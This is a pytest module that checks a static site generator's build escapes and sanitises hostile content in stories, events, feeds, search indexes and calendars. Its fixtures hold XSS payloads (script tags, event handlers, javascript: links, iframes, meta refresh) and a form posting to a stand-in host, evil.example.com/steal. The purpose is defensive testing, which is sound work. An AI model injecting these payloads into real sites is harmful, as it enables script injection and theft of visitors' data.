"""One real build (``peerhub build``, MkDocs and Material) where every field is hostile.

Every text field of a story, an event and a series holds markup that would run or break
out if it were not escaped, wrapped in markers (see tests/htmlcheck.py); the story body
and the event description are markdown with raw HTML that the sanitiser must defuse.
Every file of the built site is then read back as a browser or a feed reader would.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
import yaml
from icalendar import Calendar

from tests.conftest import TODAY, run_peerhub
from tests.htmlcheck import END, START, Fetches, elsewhere, parse, split_values, wrapped
from tests.searchindex import BuiltIndex

PAYLOAD = (
    "\"'><script>alert(1)</script><img src=x onerror=alert(2)> &amp; &lt;b&gt; </title>"
    "</textarea><!-- {{ config }} {% raw %} [link](javascript:alert(3)) *not em* # no heading"
)


def hostile(name: str) -> str:
    return f"{START}{name} {PAYLOAD}{END}"


SECRET = "CF-SECRET-REFERENCE"
BODY = """
A paragraph of body text; raw HTML in a body is allowed, but sanitised.

<script>alert("body")</script>
<iframe src="https://evil.example.com/frame"></iframe>
<img src="https://evil.example.com/pixel.png" alt="tracker">
<a href="javascript:alert('body link')">a link</a>
<div onclick="alert('click')" style="background:url(https://evil.example.com/bg.png)">styled</div>
<svg onload="alert('svg')"><circle r="1"/></svg>
<object data="https://evil.example.com/o.swf"></object>
<form action="https://evil.example.com/steal"><input name="q"></form>
<base href="https://evil.example.com/">
<meta http-equiv="refresh" content="0;url=https://evil.example.com/">
<style>body { background: url(https://evil.example.com/css.png) }</style>

![markdown image](https://evil.example.com/md.png)
and [a markdown link](javascript:alert(4))

<!-- peerhub-body-end forged --> <script>alert("after a forged end marker")</script>
"""


STORY_BODY = "\n".join(line for line in BODY.splitlines() if "image" not in line and "pixel" not in line)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.conftest import MINIMAL_MKDOCS, REPO, story, write_files

    root = tmp_path_factory.mktemp("hostile") / "hub"
    front = {
        "title": hostile("title"),
        "date": "2026-06-01",
        "summary": hostile("summary"),
        "storyteller": {"name": hostile("name"), "role": "carer", "team": hostile("team")},
        "themes": ["hope"],
        "tags": [hostile("tag")],
        "content_notes": [hostile("note")],
        "quote": hostile("quote"),
        "image": {"src": "images/walk.jpg", "alt": hostile("alt")},
        "events": ["open-day"],
        "consent": {"recorded": "2026-01-01", "review": "2028-01-01", "reference": SECRET},
        "status": "published",
    }
    events = {
        "series": [{"id": "week", "title": hostile("series title"), "summary": hostile("series summary")}],
        "events": [
            {
                "id": "open-day",
                "title": hostile("event title"),
                "summary": hostile("event summary"),
                "description": BODY,
                "start": "2027-02-11T10:00",
                "end": "2027-02-11T15:00",
                "category": "recruitment",
                "series": "week",
                "venue": {
                    "name": hostile("venue"),
                    "address": hostile("address"),
                    "postcode": hostile("postcode"),
                },
                "online": "https://example.org/join?a=1&b=<2>",
                "organiser": hostile("organiser"),
                "accessibility": hostile("accessibility"),
                "tags": [hostile("event tag")],
            }
        ],
    }
    dump = yaml.safe_dump
    write_files(
        root,
        {
            "mkdocs.yml": MINIMAL_MKDOCS.format(overrides=REPO / "overrides"),
            "docs/index.md": "# Home\n\n<!-- peerhub:latest-stories -->\n<!-- peerhub:upcoming-events -->\n",
            # peerhub check refuses remote images in a story; an event description has them.
            "stories/hostile.md": f"---\n{dump(front, allow_unicode=True)}---\n{STORY_BODY}",
            "stories/plain.md": story("A plain story"),
            "events.yaml": dump(events, allow_unicode=True),
        },
    )
    (root / "docs/images").mkdir()
    (root / "docs/images/walk.jpg").write_bytes(b"\xff\xd8\xff\xd9")  # the story's picture
    result = run_peerhub("build", "--today", TODAY, cwd=root)
    assert result.code == 0, result.text
    return root / "site"


def _files(site: Path, suffix: str) -> list[Path]:
    found = sorted(site.rglob(f"*{suffix}"))
    assert found, suffix
    return found


def test_the_hostile_text_is_shown_as_text(site: Path) -> None:
    page = parse((site / "stories/hostile/index.html").read_text(encoding="utf-8"))
    text = " ".join(page.pieces)
    for name in ["title", "summary", "name", "team", "tag", "note", "quote"]:
        assert f"{START}{name} " in text, f"the story's {name} is not on its page"
    assert "<script>alert(1)</script>" in text  # as text a reader can see, not as a tag
    event = parse((site / "events/open-day/index.html").read_text(encoding="utf-8"))
    for name in ["event title", "event summary", "venue", "address", "postcode", "organiser"]:
        assert f"{START}{name} " in " ".join(event.pieces), name


def test_no_page_runs_or_fetches_anything_from_content(site: Path) -> None:
    for path in _files(site, ".html"):
        html = path.read_text(encoding="utf-8")
        where = path.relative_to(site).as_posix()
        page = parse(html)
        assert split_values(page) == [], f"{where}: markup from content became live"
        for tag, attrs in page.tags:
            assert tag not in {"iframe", "object", "embed", "base", "style"}, f"{where}: <{tag}>"
            assert not [a for a in attrs if a.startswith("on")], f"{where}: <{tag} {attrs}>"
            for name in ("href", "src", "action", "data", "formaction"):
                assert not attrs.get(name, "").strip().lower().startswith("javascript:"), (where, tag, attrs)
            assert not (tag == "meta" and "http-equiv" in attrs), where
            assert "evil.example.com" not in " ".join(attrs.values()), f"{where}: <{tag} {attrs}>"
        for attrs, code in page.scripts:
            if attrs.get("type") in {"application/ld+json", "application/json"}:  # data, not code
                assert "</" not in code, f"{where}: {code[:80]!r}"
                json.loads(code)
            else:
                assert "alert(" not in code, f"{where}: a script from content: {code[:80]!r}"
        fetches = Fetches()
        fetches.feed(html)
        assert [url for url in fetches.urls if elsewhere(url)] == [], where
        assert SECRET not in html, f"{where}: the consent reference is on the page"
        assert "peerhub-body" not in html, where


def test_search_index_feed_sitemap_and_calendars_read_back(site: Path) -> None:
    index = BuiltIndex(site)  # the search script shows these as text (textContent), never as HTML
    story = next(r for r in index.shown if r["k"] == "Story")
    assert (story["t"], story["s"], story["n"]) == (hostile("title"), hostile("summary"), hostile("note"))
    assert "x" not in story, "a story with content notes shows its summary, not its body"
    event = index.by_url["events/open-day/"]
    assert event["t"] == hostile("event title")
    assert hostile("venue") in event["x"]  # when and where come first, as text
    description = event["x"][event["x"].index("A paragraph of body text") :]
    assert "a link" in description and "styled" in description and "a markdown link" in description
    assert "<" not in description and "alert" not in description and "evil.example" not in description
    assert index.by_url["events/series/week/"]["t"] == hostile("series title")

    feed = ET.parse(site / "stories/feed.xml").getroot()
    titles = [item.findtext("title") or "" for item in feed.iter("item")]
    assert hostile("title") in titles
    for value in wrapped((site / "stories/feed.xml").read_text(encoding="utf-8")):
        assert "<" not in value

    ET.parse(site / "sitemap.xml")
    for path in _files(site, ".ics"):
        calendar = Calendar.from_ical(path.read_bytes())
        if path.parent.name == "category" and not calendar.walk("VEVENT"):
            continue  # a category with no events still has its (empty) calendar to subscribe to
        assert str(calendar.walk("VEVENT")[0]["SUMMARY"]) in {hostile("event title"), "A plain story"}, path
    ics = (site / "events/open-day.ics").read_bytes().decode("utf-8").replace("\r\n ", "")
    carrying = {line.split(":", 1)[0].split(";", 1)[0] for line in ics.split("\r\n") if START in line}
    assert carrying <= {"SUMMARY", "DESCRIPTION", "LOCATION", "NAME", "X-WR-CALNAME"}, carrying

    for path in [p for s in (".xml", ".json", ".ics", ".txt") for p in site.rglob(f"*{s}")]:
        assert SECRET not in path.read_text(encoding="utf-8", errors="replace"), path


def test_sanitised_bodies_keep_their_words_and_lose_their_tricks(site: Path) -> None:
    for page in ("stories/hostile/index.html", "events/open-day/index.html"):
        html = (site / page).read_text(encoding="utf-8")
        article = re.search(r"<article[^>]*>(.*?)</article>", html, re.S)
        assert article, page
        body = parse(article[1])
        assert {tag for tag, _ in body.tags} & {"script", "iframe", "style", "object", "form", "svg"} == set()
        text = " ".join(body.pieces)
        for words in ("body text", "a link", "styled", "a markdown link"):
            assert words in text, (page, words)
        images = [attrs for tag, attrs in body.tags if tag == "img"]
        assert not [attrs for attrs in images if elsewhere(attrs.get("src", ""))], page
        if page.startswith("events/"):  # the remote images are there, without their address
            assert {attrs.get("alt") for attrs in images} >= {"tracker", "markdown image"}, page
